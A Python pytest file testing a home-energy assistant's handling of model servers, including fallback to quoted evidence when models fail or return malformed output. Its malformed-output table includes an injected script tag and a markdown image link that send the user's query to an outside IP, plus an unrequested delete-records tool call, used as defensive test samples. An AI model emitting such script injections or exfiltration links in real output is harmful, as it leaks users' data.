"""Turns with a model behind a socket: the dialects spoken right, and every way to fail."""

import asyncio
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import llama_server
import ollama_stand_in as ollama
import openai_stand_in as openai
import pytest
import structlog
from http_stand_in import Behaviour, Configure, Serve, StandIn, free_port, hangs, sends
from langchain_core.messages import AIMessageChunk

from agents import models
from graphs.assistant import graph
from home_energy.evidence.answer import Answer
from home_energy.evidence.verify import verify
from tools.knowledge import knowledge

pytest_plugins = ["model_servers"]

Use = Callable[[llama_server.Running], None]

QUESTION = "How thick should loft insulation be?"
TRUE = "Loft insulation of mineral wool should be 270 mm thick in the UK [1]."
DEADLINE_SECONDS = 1.0
"""For a server that fails; one that answers gets the setting's own time."""
SOON_SECONDS = 20.0
"""Far above the deadline, and far below what a stand-in that drips takes without one."""


@pytest.fixture
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME_ENERGY_MODEL_TIMEOUT_SECONDS", str(DEADLINE_SECONDS))


async def ask(question: str = QUESTION) -> Answer:
    turn: Any = {"messages": [{"role": "user", "content": question}]}
    result = await graph.ainvoke(turn)
    return Answer.model_validate(result["answer"])


def assert_quoted(answer: Answer) -> None:
    """The turn was answered as if there were no model."""
    assert answer.mode == "extractive"
    assert "270 mm" in answer.text
    assert verify(answer, knowledge().document) == []
    assert answer.usage.model_calls <= 1


# Both dialects, spoken right.

RIGHT: dict[str, Behaviour] = {"ollama": ollama.says(TRUE), "openai": openai.says(TRUE)}


@pytest.mark.parametrize("dialect", RIGHT)
async def test_a_true_sentence_is_said_with_its_proof_and_its_cost(
    serve: Serve, dialect: str
) -> None:
    stand_in = serve(dialect, RIGHT[dialect])
    answer = await ask()
    assert answer.mode == "model"
    assert answer.text == TRUE.replace(" [1].", ". [1]")
    assert verify(answer, knowledge().document) == []
    assert answer.usage.model_calls == len(stand_in.received) == 1
    assert answer.usage.input_tokens == 321
    assert answer.usage.output_tokens == len(TRUE.split(" "))


@pytest.mark.parametrize("dialect", RIGHT)
async def test_words_stream_as_they_come(serve: Serve, dialect: str) -> None:
    serve(dialect, RIGHT[dialect])
    turn: Any = {"messages": [{"role": "user", "content": QUESTION}]}
    words = [
        message.text
        async for message, _ in graph.astream(turn, stream_mode="messages")
        if isinstance(message, AIMessageChunk)
    ]
    assert [word for word in words if word][:3] == ["Loft ", "insulation ", "of "]


@pytest.mark.parametrize("dialect", RIGHT)
def test_a_model_outlives_the_event_loop_that_first_used_it(serve: Serve, dialect: str) -> None:
    serve(dialect, RIGHT[dialect])
    modes = [asyncio.run(ask()).mode for _ in range(3)]
    assert modes == ["model"] * 3


@pytest.mark.parametrize("dialect", RIGHT)
async def test_a_proxy_of_the_environment_never_gets_a_local_models_call(
    serve: Serve, dialect: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    with StandIn(sends(502, "no")) as proxy:
        for name in ("http_proxy", "https_proxy", "all_proxy"):
            monkeypatch.setenv(name, proxy.url)
            monkeypatch.setenv(name.upper(), proxy.url)
        monkeypatch.delenv("no_proxy", raising=False)
        monkeypatch.delenv("NO_PROXY", raising=False)
        serve(dialect, RIGHT[dialect])
        answer = await ask()
    assert answer.mode == "model"
    assert proxy.received == []


async def test_ollama_is_told_how_much_context_the_prompt_needs(
    serve: Serve, configure: Configure
) -> None:
    stand_in = serve("ollama", RIGHT["ollama"])
    configure(model_context_tokens=3000)
    await ask()
    sent = stand_in.received[0].json()
    assert sent["options"]["num_ctx"] == 3000
    assert sent["options"]["num_predict"] == models.MAX_ANSWER_TOKENS
    prompt = "".join(message["content"] for message in sent["messages"])
    assert len(prompt) / 3 + models.MAX_ANSWER_TOKENS < 3000


async def test_a_local_server_needs_no_key(serve: Serve) -> None:
    stand_in = serve("openai", RIGHT["openai"])
    assert (await ask()).mode == "model"
    assert stand_in.received[0].headers["authorization"] == f"Bearer {models.NO_KEY}"


async def test_a_server_that_wants_a_key_gets_the_users_own(
    serve: Serve, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-of-the-user")
    stand_in = serve("openai", RIGHT["openai"])
    assert (await ask()).mode == "model"
    assert stand_in.received[0].headers["authorization"] == "Bearer sk-of-the-user"


async def test_without_a_key_openai_is_never_asked_and_the_log_says_so(
    configure: Configure,
) -> None:
    configure(model="openai:gpt-4o")
    with structlog.testing.capture_logs() as logs:
        answer = await ask()
    assert_quoted(answer)
    assert [
        (line["log_level"], line["model"]) for line in logs if line["event"] == "model_failed"
    ] == [("warning", "openai:gpt-4o")]


# What may go wrong, each on a real socket.

OLLAMA_FAULTS: dict[str, Behaviour] = {
    "model missing": ollama.has_no_model,
    "500": sends(500, {"error": "llama runner process has terminated"}),
    "hang": hangs,
    "drip": ollama.drips,
    "empty body": ollama.streams(),
    "empty answer": ollama.says(""),
    "garbage": ollama.streams("{nonsense\n", "more\n"),
    "html": sends(200, "<html>captive portal</html>"),
    "other shape": ollama.streams('{"message": 7}\n', "[]\n"),
    "error in the stream": ollama.streams(
        '{"message": {"role": "assistant", "content": "Loft "}, "done": false}\n',
        '{"error": "out of memory"}\n',
    ),
    "cut": ollama.is_cut_after(TRUE),
    "too long": ollama.says(TRUE, done_reason="length"),
    "only loaded": ollama.streams(
        '{"message": {"role": "assistant", "content": ""}, "done": true, "done_reason": "load"}\n'
    ),
}

OPENAI_FAULTS: dict[str, Behaviour] = {
    "401": openai.refuses(401, "Incorrect API key provided"),
    "429": openai.refuses(429, "Rate limit reached"),
    "500": openai.refuses(500, "The server had an error"),
    "503 as text": sends(503, "upstream connect error"),
    "hang": hangs,
    "drip": openai.drips,
    "empty body": openai.streams(),
    "only the end": openai.streams("data: [DONE]\n\n"),
    "garbage": openai.streams("data: {nonsense\n\n", "data: [DONE]\n\n"),
    "not an event stream": openai.streams("hello\n\n", "\x00\x01\n\n"),
    "html": sends(200, "<html>captive portal</html>"),
    "other shape": openai.streams('data: {"choices": 7}\n\n', "data: [DONE]\n\n"),
    "error in the stream": openai.streams('data: {"error": {"message": "overloaded"}}\n\n'),
    "cut": openai.is_cut_after(TRUE),
    "ended in the middle": openai.ends_after(TRUE),
    "too long": openai.says(TRUE, finish_reason="length"),
}

MALFORMED: dict[str, Behaviour] = {
    "nothing": openai.says(""),
    "blank": openai.says(" \n\t \n "),
    "markers only": openai.says("[1] [2] [99]"),
    "punctuation": openai.says("... !!! ??? ---"),
    "a loop": openai.says("the the the the " * 60),
    "json": openai.says('{"answer": null, "citations": ['),
    "another language": openai.says("La maison est très jolie et le chat dort."),
    "html": openai.says("<script>fetch('http://203.0.113.9/?q=loft')</script>"),
    "a link": openai.says("See ![proof](http://203.0.113.9/x.png?q=loft) [1]."),
    "no end of sentence": openai.says("gold " * 300),
    "half a character": openai.sends_delta({"content": "\ud83d loft \x00\x1b[2J"}),
    "a tool instead of words": openai.sends_delta(
        {
            "tool_calls": [
                {
                    "index": 0,
                    "id": "c1",
                    "type": "function",
                    "function": {"name": "delete_records", "arguments": "{}"},
                }
            ]
        },
        finish_reason="tool_calls",
    ),
    "null": openai.sends_delta({"content": None}),
    "a refusal": openai.sends_delta({"refusal": "I cannot help with that."}),
}

FAULTS = [
    *(pytest.param("ollama", fault, id=f"ollama, {name}") for name, fault in OLLAMA_FAULTS.items()),
    *(pytest.param("openai", fault, id=f"openai, {name}") for name, fault in OPENAI_FAULTS.items()),
    *(pytest.param("openai", fault, id=f"said: {name}") for name, fault in MALFORMED.items()),
    pytest.param(
        "openai",
        openai.says("loft " * 300),
        id="said: one word of a passage, over and over",
    ),
]


@pytest.mark.usefixtures("impatient")
@pytest.mark.parametrize(("dialect", "fault"), FAULTS)
async def test_a_model_that_fails_or_talks_nonsense_is_replaced_by_quotes(
    serve: Serve, dialect: str, fault: Behaviour
) -> None:
    stand_in = serve(dialect, fault)
    started = time.monotonic()
    answer = await ask()
    assert time.monotonic() - started < SOON_SECONDS
    assert_quoted(answer)
    assert len(stand_in.received) == 1


@pytest.mark.parametrize("dialect", RIGHT)
async def test_a_refused_connection_is_replaced_by_quotes(
    configure: Configure, dialect: str
) -> None:
    address = f"http://127.0.0.1:{free_port()}"
    configure(model=f"{dialect}:{ollama.MODEL}", model_base_url=address)
    assert_quoted(await ask())


@pytest.mark.usefixtures("impatient")
@pytest.mark.parametrize(
    ("dialect", "fault"),
    [("ollama", hangs), ("ollama", ollama.drips), ("openai", hangs), ("openai", openai.drips)],
)
async def test_a_late_model_is_hung_up_on(serve: Serve, dialect: str, fault: Behaviour) -> None:
    stand_in = serve(dialect, fault)
    await ask()
    assert await asyncio.to_thread(stand_in.hung_up.wait, SOON_SECONDS)


@pytest.mark.usefixtures("impatient")
@pytest.mark.parametrize("dialect", RIGHT)
async def test_turns_do_not_wait_for_a_model_that_has_just_failed(
    serve: Serve, dialect: str
) -> None:
    stand_in = serve(dialect, hangs)
    await ask()
    for _ in range(3):
        assert_quoted(await ask())
    assert len(stand_in.received) == 1


async def test_a_model_that_failed_is_asked_again_after_its_rest(serve: Serve) -> None:
    stand_in = serve("openai", openai.refuses(500, "The server had an error"))
    await ask()
    stand_in.behaviour = RIGHT["openai"]
    assert (await ask()).mode == "extractive"
    models.health.retry_at = {
        name: at - models.REST_SECONDS for name, at in models.health.retry_at.items()
    }
    assert (await ask()).mode == "model"


@pytest.mark.parametrize(
    "fault",
    [
        pytest.param(openai.refuses(400, "maximum context length exceeded"), id="refused"),
        pytest.param(openai.says("nonsense"), id="nonsense"),
        pytest.param(openai.says(TRUE, finish_reason="length"), id="too long"),
    ],
)
async def test_one_bad_answer_does_not_take_the_model_from_the_next_turn(
    serve: Serve, fault: Behaviour
) -> None:
    stand_in = serve("openai", fault)
    assert_quoted(await ask())
    stand_in.behaviour = RIGHT["openai"]
    assert (await ask()).mode == "model"


# A true llama.cpp server with a true, very small model.


@pytest.mark.slow
async def test_llama_cpp_answers_or_is_replaced_but_nothing_unproved_is_said(
    use: Use, llama: llama_server.Running
) -> None:
    use(llama)
    answer = await ask()
    assert answer.mode in {"model", "extractive"}
    assert "270 mm" in answer.text or answer.mode == "model"
    assert verify(answer, knowledge().document) == []
    assert answer.usage.model_calls == 1
    assert 0 < answer.usage.output_tokens <= models.MAX_ANSWER_TOKENS
    room = llama_server.CONTEXT_TOKENS - models.MAX_ANSWER_TOKENS
    assert 0 < answer.usage.input_tokens <= room


@pytest.mark.slow
async def test_llama_cpp_streams_its_tokens(use: Use, llama: llama_server.Running) -> None:
    use(llama)
    turn: Any = {"messages": [{"role": "user", "content": QUESTION}]}
    tokens, final = [], None
    async for mode, event in graph.astream(turn, stream_mode=["messages", "values"]):
        if mode == "values":
            final = event
        elif isinstance(event[0], AIMessageChunk) and event[0].text:
            tokens.append(event[0].text)
    assert len(tokens) > 3
    assert final is not None
    assert verify(Answer.model_validate(final["answer"]), knowledge().document) == []


@pytest.mark.slow
async def test_llama_cpp_killed_in_the_middle_of_its_answer_costs_the_turn_nothing(
    use: Use, smollm2: Path
) -> None:
    turn: Any = {"messages": [{"role": "user", "content": QUESTION}]}
    with llama_server.running(smollm2) as server:
        use(server)
        final, spoke = None, False
        async for mode, event in graph.astream(turn, stream_mode=["messages", "values"]):
            if mode == "values":
                final = event
            elif isinstance(event[0], AIMessageChunk) and event[0].text and not spoke:
                spoke = True
                server.kill()
        assert spoke
        assert final is not None
        assert_quoted(Answer.model_validate(final["answer"]))
        # The next turns know, and do not even knock.
        assert models.health.is_resting(f"openai:{llama_server.NAME}")
        assert_quoted(await ask())
